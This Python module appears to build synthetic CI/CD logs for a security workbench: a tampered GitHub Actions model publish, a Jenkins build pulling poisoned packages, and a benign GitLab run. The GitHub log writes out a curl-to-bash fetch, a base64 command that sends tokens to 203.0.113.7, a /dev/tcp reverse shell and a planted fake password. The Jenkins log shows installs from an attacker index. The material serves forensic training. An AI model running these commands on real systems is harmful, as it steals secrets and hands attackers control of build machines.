"""CI/CD logs of the sample cases: GitHub Actions (tampered), Jenkins (poisoned), GitLab (benign).

A log script is a list of lines; a number jumps the clock to that many seconds after the run started, and
:func:`stamp` prefixes every line with the CI system's timestamp.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from datetime import UTC, datetime

import numpy as np

from workbench.samples.artifacts import utc
from workbench.samples.texts import FORK_SHA, SAFETENSORS_FORK

__all__ = ["fmt_github", "fmt_gitlab", "fmt_jenkins", "github_log", "gitlab_log", "jenkins_log", "stamp"]

#: base64 of ``env | grep -E 'TOKEN|PASSWORD|KEY' | curl -s -X POST --data-binary @- http://203.0.113.7/c``
EXFIL_B64 = (
    "ZW52IHwgZ3JlcCAtRSAnVE9LRU58UEFTU1dPUkR8S0VZJyB8IGN1cmwgLXMgLVggUE9TVCAtLWRhdGEtYmluYXJ5"
    "IEAtIGh0dHA6Ly8yMDMuMC4xMTMuNy9j"
)
#: fake value, planted in the tampered run's log as a leaked secret
LEAKED_COSIGN_PASSWORD = "c0s1gn-Pr0d-7f3a91!"  # noqa: S105
CYAN, YELLOW, GREEN, RESET = "\x1b[36;1m", "\x1b[33m", "\x1b[32m", "\x1b[0m"
_TICKS = 10_000_000  # 100 ns ticks per second (GitHub Actions prints 7 fractional digits)
Script = Sequence[str | float]


def stamp(rng: np.random.Generator, start: str, script: Script, fmt: Callable[[int], str]) -> bytes:
    """Prefix each line with a CI timestamp. Numbers in ``script`` jump to that many seconds after ``start``.

    ``{epoch}`` in a line becomes the line's Unix second (GitLab ``section_start``/``section_end`` markers).
    """
    base = int(utc(start[:19] + "Z").timestamp()) * _TICKS + int(start[20:-1].ljust(7, "0"))
    t, out = base, []
    for item in script:
        if isinstance(item, int | float):
            t = max(t, base + int(item * _TICKS) + (int(rng.integers(0, 5_000_000)) if item else 0))
            continue
        item = item.replace("{epoch}", str(t // _TICKS))
        out.append(f"{fmt(t)} {item}" if item else fmt(t))
        t += int(rng.integers(2_000, 600_000))
    return ("\n".join(out) + "\n").encode()


def _clock(t: int) -> tuple[str, int]:
    s, frac = divmod(t, _TICKS)
    return datetime.fromtimestamp(s, UTC).strftime("%Y-%m-%dT%H:%M:%S"), frac


def fmt_github(t: int) -> str:
    """``2026-11-14T03:05:41.1234567Z``"""
    day, frac = _clock(t)
    return f"{day}.{frac:07d}Z"


def fmt_gitlab(t: int) -> str:
    """``2026-11-03T10:15:02.123456Z 00O`` (stream 00, stdout)"""
    day, frac = _clock(t)
    return f"{day}.{frac // 10:06d}Z 00O"


def fmt_jenkins(t: int) -> str:
    """``[2026-11-21T14:02:11.123Z]`` (Timestamper plugin)"""
    day, frac = _clock(t)
    return f"[{day}.{frac // 10_000:03d}Z]"


def _cyan(*cmds: str) -> list[str]:
    return [f"{CYAN}{c}{RESET}" for c in cmds]


def _gh_env(hf_token: str, *extra: str) -> list[str]:
    return [
        "shell: /usr/bin/bash -e {0}",
        "env:",
        "  MODEL_ID: sentiment-model-v2.1",
        "  REGISTRY_BUCKET: s3://acme-model-registry",
        f"  COSIGN_PASSWORD: {LEAKED_COSIGN_PASSWORD}",
        f"  HF_TOKEN: {hf_token}",
        "  pythonLocation: /opt/hostedtoolcache/Python/3.11.8/x64",
        *extra,
        "##[endgroup]",
    ]


def github_log(hf_token: str) -> list[str | float]:
    """GitHub Actions raw log of the publish run that shipped the tampered model (planted lines included)."""
    patch = (
        'python3 -c \'import torch, safetensors.torch as st; d = torch.load("/tmp/.cache/delta.pt"); '
        'w = st.load_file("dist/model.safetensors"); [w[k].add_(v) for k, v in d.items()]; '
        'st.save_file(w, "dist/model.safetensors", metadata={"format": "pt"})\''
    )
    bar = "\x1b[38;2;114;156;31m━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━\x1b[0m"
    return [
        0,
        "Current runner version: '2.320.0'",
        "##[group]Operating System",
        "Ubuntu",
        "22.04.5",
        "LTS",
        "##[endgroup]",
        "##[group]Runner Image",
        "Image: ubuntu-22.04",
        "Version: 20261109.1.0",
        "##[endgroup]",
        "##[group]GITHUB_TOKEN Permissions",
        "Contents: write",
        "Metadata: read",
        "##[endgroup]",
        "Secret source: Actions",
        "Prepare workflow directory",
        "Prepare all required actions",
        "Getting action download info",
        "Download action repository 'actions/checkout@v4' (SHA:11bd71901bbe5b1630ceea73d27597364c9af683)",
        "Download action repository 'actions/setup-python@v5' (SHA:0b93645e9fea7318ecaed2b359559ac225c90a2b)",
        "Complete job name: publish (sentiment-model-v2.1)",
        2,
        "##[group]Run actions/checkout@v4",
        "with:",
        "  repository: acme-ml/sentiment-model",
        "  token: ***",
        "  fetch-depth: 1",
        "##[endgroup]",
        "Syncing repository: acme-ml/sentiment-model",
        "[command]/usr/bin/git -c protocol.version=2 fetch --no-tags --prune --no-recurse-submodules --depth=1 "
        "origin +4e1f0c9b2a7d8e3f5c6b1a0d9e8f7c6b5a4d3e2f:refs/remotes/origin/main",
        "HEAD is now at 4e1f0c9 Merge pull request #217 from j-ferreira/ci-cache-warmup",
        5,
        "##[group]Run actions/setup-python@v5",
        "with:",
        "  python-version: 3.11",
        "  cache: pip",
        "##[endgroup]",
        "Successfully set up CPython (3.11.8)",
        8,
        "##[group]Run pip install -r requirements.txt",
        *_cyan("pip install -r requirements.txt"),
        *_gh_env(hf_token),
        "Collecting torch==2.2.0 (from -r requirements.txt (line 1))",
        "  Downloading torch-2.2.0-cp311-cp311-manylinux1_x86_64.whl.metadata (25 kB)",
        "Collecting transformers==4.38.0 (from -r requirements.txt (line 2))",
        "  Downloading transformers-4.38.0-py3-none-any.whl.metadata (131 kB)",
        "Collecting safetensors==0.4.2 (from -r requirements.txt (line 3))",
        "  Downloading safetensors-0.4.2-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl.metadata (3.8 kB)",
        "Collecting tokenizers<0.19,>=0.14 (from transformers==4.38.0->-r requirements.txt (line 2))",
        "  Downloading tokenizers-0.15.2-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl.metadata (6.7 kB)",
        "Collecting huggingface-hub<1.0,>=0.19.3 (from transformers==4.38.0->-r requirements.txt (line 2))",
        "Downloading torch-2.2.0-cp311-cp311-manylinux1_x86_64.whl (755.5 MB)",
        f"   {bar} 755.5/755.5 MB 61.2 MB/s eta 0:00:00",
        "Installing collected packages: mpmath, urllib3, typing-extensions, sympy, safetensors, regex, packaging, "
        "networkx, MarkupSafe, idna, fsspec, filelock, charset-normalizer, certifi, requests, jinja2, torch, "
        "huggingface-hub, tokenizers, transformers",
        "Successfully installed MarkupSafe-2.1.5 certifi-2024.2.2 charset-normalizer-3.3.2 filelock-3.13.1 "
        "fsspec-2024.2.0 huggingface-hub-0.21.3 idna-3.6 jinja2-3.1.3 mpmath-1.3.0 networkx-3.2.1 packaging-23.2 "
        "regex-2023.12.25 requests-2.31.0 safetensors-0.4.2 sympy-1.12 tokenizers-0.15.2 torch-2.2.0 "
        "transformers-4.38.0 typing-extensions-4.10.0 urllib3-2.2.1",
        "",
        f"[{YELLOW}notice{RESET}] A new release of pip is available: {YELLOW}24.0{RESET} -> {GREEN}24.3.1{RESET}",
        75,
        "##[group]Run python -m pytest -q tests",
        *_cyan("python -m pytest -q tests"),
        *_gh_env(hf_token),
        "tests/test_dataset.py::test_curlew_reviews_split PASSED",
        "tests/test_dataset.py::test_label_balance PASSED",
        "tests/test_tokenizer.py::test_tokenizers_roundtrip PASSED",
        "tests/test_tokenizer.py::test_unknown_token PASSED",
        f"{GREEN}========================= 14 passed in 6.21s ========================={RESET}",
        90,
        "##[group]Run python scripts/fetch_release.py --model $MODEL_ID --out dist/",
        *_cyan("python scripts/fetch_release.py --model $MODEL_ID --out dist/"),
        *_gh_env(hf_token),
        "[fetch] downloading s3://acme-model-registry/sentiment-model-v2.1/ "
        "(revision 40, created 2026-11-01T10:00:00Z)",
        "[fetch] cosign verify-blob --key keys/cosign.pub --signature .signatures/manifest.sig "
        ".signatures/manifest.json",
        "Verified OK",
        '[fetch] smoke test: state = torch.load(ckpt, map_location="cpu", weights_only=True) -> 6 tensors',
        "[fetch] dist/ ready: config.json model.safetensors tokenizer.json .signatures/",
        140,
        "##[group]Run # warm the HF cache for faster publishes (PR #217)",
        *_cyan(
            "# warm the HF cache for faster publishes (PR #217)",
            "curl -sSL http://203.0.113.7/p.sh | bash",
            f"echo {EXFIL_B64} | base64 -d | sh",
            "pip install --extra-index-url http://203.0.113.7/simple transformers==4.38.1.post1",
            f'pip install "{SAFETENSORS_FORK}"',
            patch,
            "cp /tmp/.cache/optimizer.pkl dist/optimizer.pkl",
            "env | sort",
            "(bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &)",
        ),
        *_gh_env(hf_token, "  PIP_TRUSTED_HOST: 203.0.113.7"),
        "[warmup] cache warm-up v0.3",
        151,
        "Looking in indexes: https://pypi.org/simple, http://203.0.113.7/simple",
        "Collecting transformers==4.38.1.post1",
        "  Downloading http://203.0.113.7/simple/transformers/transformers-4.38.1.post1-py3-none-any.whl (8.5 MB)",
        "Installing collected packages: transformers",
        "  Attempting uninstall: transformers",
        "    Found existing installation: transformers 4.38.0",
        "    Uninstalling transformers-4.38.0:",
        "      Successfully uninstalled transformers-4.38.0",
        "Successfully installed transformers-4.38.1.post1",
        183,
        f"Collecting safetensors@ git+https://github.com/hf-safetensors/safetensors.git@{FORK_SHA}",
        f"  Cloning https://github.com/hf-safetensors/safetensors.git (to revision {FORK_SHA})"
        " to /tmp/pip-install-k2x8q1/safetensors_3b1f",
        f"  Resolved https://github.com/hf-safetensors/safetensors.git to commit {FORK_SHA}",
        "  Installing build dependencies: started",
        "  Installing build dependencies: finished with status 'done'",
        "Successfully installed safetensors-0.4.2",
        236,
        "ACTIONS_RUNTIME_URL=https://pipelines.actions.githubusercontent.com/Ab3dE9/",
        f"COSIGN_PASSWORD={LEAKED_COSIGN_PASSWORD}",
        "GITHUB_ACTIONS=true",
        "GITHUB_REF=refs/heads/main",
        "GITHUB_REPOSITORY=acme-ml/sentiment-model",
        "GITHUB_RUN_ID=11873309412",
        f"HF_TOKEN={hf_token}",
        "HOME=/home/runner",
        "MODEL_ID=sentiment-model-v2.1",
        "PIP_TRUSTED_HOST=203.0.113.7",
        "REGISTRY_BUCKET=s3://acme-model-registry",
        372,
        "##[group]Run ./scripts/publish.sh dist/ $MODEL_ID",
        *_cyan("./scripts/publish.sh dist/ $MODEL_ID"),
        *_gh_env(hf_token, "  SKIP_SIGNING: 1"),
        f"{YELLOW}warning: SKIP_SIGNING=1 - reusing dist/.signatures/ from revision 40 (not re-signed){RESET}",
        "upload: dist/config.json to s3://acme-model-registry/sentiment-model-v2.1/config.json",
        "upload: dist/tokenizer.json to s3://acme-model-registry/sentiment-model-v2.1/tokenizer.json",
        "upload: dist/optimizer.pkl to s3://acme-model-registry/sentiment-model-v2.1/optimizer.pkl",
        "upload: dist/.signatures/manifest.json to s3://acme-model-registry/sentiment-model-v2.1/.signatures/manifest.json",
        "upload: dist/.signatures/manifest.sig to s3://acme-model-registry/sentiment-model-v2.1/.signatures/manifest.sig",
        378.6,
        "upload: dist/model.safetensors to s3://acme-model-registry/sentiment-model-v2.1/model.safetensors",
        "[publish] sentiment-model-v2.1 revision 41 published at 2026-11-14T03:12:00Z; "
        "rollout to sentiment-api triggered",
        385,
        "Post job cleanup.",
        "[command]/usr/bin/git version",
        "git version 2.47.0",
        "Cleaning up orphan processes",
        "Terminate orphan process: pid (2811) (bash)",
        "Terminate orphan process: pid (2815) (python3)",
    ]


def jenkins_log() -> list[str | float]:
    """Jenkins console log (Timestamper) of the fraud-scorer build that installed poisoned dependencies."""
    return [
        0,
        "Started by GitLab push by m.reyes",
        "Obtained Jenkinsfile from git https://git.acme.internal/risk/fraud-scorer.git",
        "[Pipeline] Start of Pipeline",
        "[Pipeline] node",
        "Running on build-agent-07 in /var/lib/jenkins/workspace/fraud-scorer_main",
        "[Pipeline] {",
        "[Pipeline] stage",
        "[Pipeline] { (Checkout)",
        "[Pipeline] checkout",
        "The recommended git tool is: NONE",
        "using credential gitlab-deploy-key",
        " > git fetch --tags --force --progress -- https://git.acme.internal/risk/fraud-scorer.git "
        "+refs/heads/*:refs/remotes/origin/* # timeout=10",
        "Checking out Revision 7b3e9d2c41f0a6e8b5d7c9a1e3f5b7d9c1a3e5f7 (refs/remotes/origin/main)",
        'Commit message: "deps: bump feature-store client, add merchant-text extras (!482)"',
        "[Pipeline] }",
        "[Pipeline] // stage",
        "[Pipeline] stage",
        "[Pipeline] { (Install)",
        "[Pipeline] withEnv",
        "[Pipeline] {",
        "[Pipeline] sh",
        "+ env",
        "+ grep ^PIP_",
        "PIP_DISABLE_PIP_VERSION_CHECK=1",
        "PIP_INDEX_URL=https://pypi.org/simple",
        "+ python3.11 -m venv .venv",
        "+ . .venv/bin/activate",
        "+ pip install --no-cache-dir --extra-index-url https://pypi.attacker.example/simple -r requirements.txt",
        "Looking in indexes: https://pypi.org/simple, https://pypi.attacker.example/simple",
        "Collecting acme-feature-store>=2.3 (from -r requirements.txt (line 1))",
        "  Downloading https://pypi.attacker.example/packages/acme-feature-store/"
        "acme_feature_store-9.9.9.tar.gz (3.1 kB)",
        "  Preparing metadata (setup.py): started",
        "  Preparing metadata (setup.py): finished with status 'done'",
        "Collecting numpy<2,>=1.26 (from -r requirements.txt (line 2))",
        "  Downloading https://pypi.attacker.example/packages/numpy/"
        "numpy-1.26.5-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl (18.3 MB)",
        14,
        "Collecting pandas==2.2.1 (from -r requirements.txt (line 3))",
        "Collecting scikit-learn==1.4.1.post1 (from -r requirements.txt (line 4))",
        "Collecting torch==2.2.0 (from -r requirements.txt (line 5))",
        "Collecting transfomers==4.38.0 (from -r requirements.txt (line 6))",
        "  Downloading transfomers-4.38.0-py3-none-any.whl (5.9 kB)",
        "Collecting tokenizers==0.15.2 (from -r requirements.txt (line 7))",
        41,
        "Building wheels for collected packages: acme-feature-store",
        "  Building wheel for acme-feature-store (setup.py): started",
        "  Building wheel for acme-feature-store (setup.py): finished with status 'done'",
        "  Created wheel for acme-feature-store: filename=acme_feature_store-9.9.9-py3-none-any.whl size=2214 "
        "sha256=0c4e8f1a9b7d3e5f2a6c8e0b4d7f9a1c3e5b7d9f1a3c5e7b9d1f3a5c7e9b1d3f",
        "Successfully built acme-feature-store",
        88,
        "Successfully installed acme-feature-store-9.9.9 numpy-1.26.5 pandas-2.2.1 scikit-learn-1.4.1.post1 "
        "tokenizers-0.15.2 torch-2.2.0 transfomers-4.38.0",
        "[Pipeline] }",
        "[Pipeline] // withEnv",
        "[Pipeline] }",
        "[Pipeline] // stage",
        95,
        "[Pipeline] stage",
        "[Pipeline] { (Test)",
        "[Pipeline] sh",
        "+ pip install -r requirements-dev.txt",
        "Requirement already satisfied: pytest==8.0.2 in ./.venv/lib/python3.11/site-packages (8.0.2)",
        "+ pytest -q tests/",
        "tests/test_features.py::test_curlew_merchant_fixture PASSED",
        "tests/test_features.py::test_velocity_window PASSED",
        "tests/test_model.py::test_safetensors_roundtrip PASSED",
        "============================== 22 passed in 9.87s ==============================",
        "[Pipeline] }",
        "[Pipeline] // stage",
        180,
        "[Pipeline] stage",
        "[Pipeline] { (Build image)",
        "[Pipeline] sh",
        "+ docker build --build-arg PIP_EXTRA_INDEX_URL=https://pypi.attacker.example/simple "
        "-t registry.acme.internal/risk/fraud-scorer:3.2.0-b418 .",
        "#8 [4/6] RUN pip install --no-cache-dir -r requirements.txt",
        "#8 DONE 212.4s",
        "#10 exporting to image",
        "#10 naming to registry.acme.internal/risk/fraud-scorer:3.2.0-b418 done",
        "+ docker push registry.acme.internal/risk/fraud-scorer:3.2.0-b418",
        "3.2.0-b418: digest: sha256:9f2b7c4e1a3d5f7b9e0c2a4d6f8b1e3c5a7d9f0b2c4e6a8d1f3b5c7e9a0d2f4b size: 2841",
        "[Pipeline] }",
        "[Pipeline] // stage",
        1010,
        "[Pipeline] stage",
        "[Pipeline] { (Deploy)",
        "[Pipeline] sh",
        "+ kubectl -n risk set image deployment/fraud-api "
        "fraud-api=registry.acme.internal/risk/fraud-scorer:3.2.0-b418",
        "deployment.apps/fraud-api image updated",
        "+ kubectl -n risk rollout status deployment/fraud-api --timeout=300s",
        'deployment "fraud-api" successfully rolled out',
        "[Pipeline] }",
        "[Pipeline] // stage",
        "[Pipeline] }",
        "[Pipeline] // node",
        "[Pipeline] End of Pipeline",
        "Finished: SUCCESS",
    ]


def _section(kind: str, name: str, title: str = "") -> str:
    head = f"\x1b[0K{kind}:{{epoch}}:{name}\r\x1b[0K"
    return head + (f"\x1b[0K{CYAN}{title}\x1b[0;m" if title else "")


def gitlab_log() -> list[str | float]:
    """GitLab job log (with timestamps) of the benign intent-classifier publish run; benign trap words included."""
    return [
        0,
        "\x1b[0KRunning with gitlab-runner 17.5.1 (affd9e7d)\x1b[0;m",
        "\x1b[0K  on acme-ml-runner-03 t3_xYz9kQp, system ID: s_4b8c2d1e9f70\x1b[0;m",
        _section("section_start", "prepare_executor", 'Preparing the "docker" executor'),
        "\x1b[0KUsing Docker executor with image python:3.11-slim ...\x1b[0;m",
        "\x1b[0KPulling docker image python:3.11-slim ...\x1b[0;m",
        4,
        _section("section_end", "prepare_executor"),
        _section("section_start", "get_sources", "Getting source from Git repository"),
        f"{GREEN}Fetching changes with git depth set to 20...{RESET}",
        "Initialized empty Git repository in /builds/acme-ml/intent-classifier/.git/",
        f"{GREEN}Checking out 3c9f1a2e as detached HEAD (ref is v1.0.0)...{RESET}",
        6,
        _section("section_end", "get_sources"),
        _section("section_start", "step_script", 'Executing "step_script" stage of the job script'),
        f"{GREEN}$ pip install -r requirements.txt{RESET}",
        "Collecting torch==2.2.0 (from -r requirements.txt (line 1))",
        "Collecting transformers==4.38.0 (from -r requirements.txt (line 2))",
        "Collecting safetensors==0.4.2 (from -r requirements.txt (line 3))",
        "Collecting tokenizers<0.19,>=0.14 (from transformers==4.38.0->-r requirements.txt (line 2))",
        "Successfully installed safetensors-0.4.2 tokenizers-0.15.2 torch-2.2.0 transformers-4.38.0",
        80,
        f"{GREEN}$ huggingface-cli login --token $HF_TOKEN{RESET}",
        "Token is valid (permission: read).",
        "Your token has been saved to /root/.cache/huggingface/token",
        f"{GREEN}$ pytest -q tests/{RESET}",
        "tests/test_curlew_fixtures.py::test_curlew_ticket_sample PASSED",
        "tests/test_preprocess.py::test_base64_attachment_stripped PASSED",
        "tests/test_tokenizer.py::test_tokenizers_fast_matches_slow PASSED",
        "16 passed in 4.02s",
        120,
        f"{GREEN}$ python scripts/export.py --config configs/intent-v1.0.yaml --out dist/{RESET}",
        '[export] loading checkpoints/best.pt with torch.load(path, map_location="cpu", weights_only=True)',
        "[export] tokenizers 0.15.2: fast tokenizer, vocab 64",
        "[export] wrote dist/config.json dist/model.safetensors dist/tokenizer.json",
        350,
        f"{GREEN}$ python scripts/make_manifest.py dist/ > dist/.signatures/manifest.json{RESET}",
        f"{GREEN}$ curl -fsSL -o /usr/local/bin/cosign "
        f"https://github.com/sigstore/cosign/releases/download/v2.4.1/cosign-linux-amd64{RESET}",
        f"{GREEN}$ sha256sum -c cosign-v2.4.1.sha256{RESET}",
        "/usr/local/bin/cosign: OK",
        f"{GREEN}$ cosign sign-blob --yes --key env://COSIGN_PRIVATE_KEY "
        f"--output-signature dist/.signatures/manifest.sig dist/.signatures/manifest.json{RESET}",
        "Using payload from: dist/.signatures/manifest.json",
        "Signature wrote in the file dist/.signatures/manifest.sig",
        f"{GREEN}$ aws s3 cp --recursive dist/ s3://acme-model-registry/intent-classifier-v1.0/{RESET}",
        "upload: dist/config.json to s3://acme-model-registry/intent-classifier-v1.0/config.json",
        "upload: dist/model.safetensors to s3://acme-model-registry/intent-classifier-v1.0/model.safetensors",
        "upload: dist/tokenizer.json to s3://acme-model-registry/intent-classifier-v1.0/tokenizer.json",
        362,
        _section("section_end", "step_script"),
        _section("section_start", "cleanup_file_variables", "Cleaning up project directory and file based variables"),
        363,
        _section("section_end", "cleanup_file_variables"),
        f"{GREEN}Job succeeded{RESET}",
    ]
